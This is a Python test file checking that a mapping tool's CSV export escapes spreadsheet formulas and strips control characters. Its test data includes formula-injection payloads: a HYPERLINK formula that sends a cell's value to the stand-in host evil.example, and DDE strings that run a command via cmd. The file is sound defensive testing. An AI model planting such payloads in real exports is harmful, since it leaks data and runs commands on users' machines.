"""Text safe in every output: control characters and spreadsheet formulas (issue 20)."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from asmap.layers.cells import clean_text_columns, csv_safe, formula_prefix, neutralize


@pytest.mark.parametrize(("text", "safe"), [
    ('=HYPERLINK("http://evil.example/?d="&A1,"Open")',
     '\'=HYPERLINK("http://evil.example/?d="&A1,"Open")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\n=1+1"),
    ("+976 9900-0001", "'+976 9900-0001"),
], ids=["=", "+", "-", "@", "tab", "cr", "phone"])
def test_each_formula_prefix_is_neutralised(text, safe):
    assert formula_prefix(text)
    assert neutralize(text) == safe


@pytest.mark.parametrize("text", ["-12.5", "+3", "ZT-01", "Туул Алт ХХК", "", "a=b"])
def test_numbers_and_plain_text_are_left_alone(text):
    assert not formula_prefix(text) and neutralize(text) == text


def test_csv_safe_keeps_numeric_columns_numeric():
    table = pd.DataFrame({"name": ["=1+1", "Altan", None], "area_ha": [-1.5, 2.0, np.nan],
                          "eligible": [True, False, True], "@col": ["a", "b", "c"]})
    safe = csv_safe(table)
    assert safe["name"].tolist()[:2] == ["'=1+1", "Altan"] and pd.isna(safe["name"].iloc[2])
    assert safe["area_ha"].dtype == float and safe["area_ha"].iloc[0] == -1.5
    assert safe["eligible"].tolist() == [True, False, True]
    assert list(safe.columns) == ["name", "area_ha", "eligible", "'@col"]
    assert table["name"].iloc[0] == "=1+1", "the input is not changed"


def test_control_characters_are_removed_naming_the_feature():
    frame = pd.DataFrame({"site_id": ["ZT-01", "ZT-02"], "name": ["ok", "Bell\x07 Gold\x1b"]})
    clean, found = clean_text_columns(frame, kind="tailings", file="tailings.geojson",
                                      labels=lambda f: (lambda i: f["site_id"].iloc[i]))
    assert clean["name"].tolist() == ["ok", "Bell Gold"]
    assert [(p.severity, p.feature, p.field, p.file) for p in found] == [
        ("warning", "ZT-02", "name", "tailings.geojson")]
    assert frame["name"].iloc[1] == "Bell\x07 Gold\x1b"
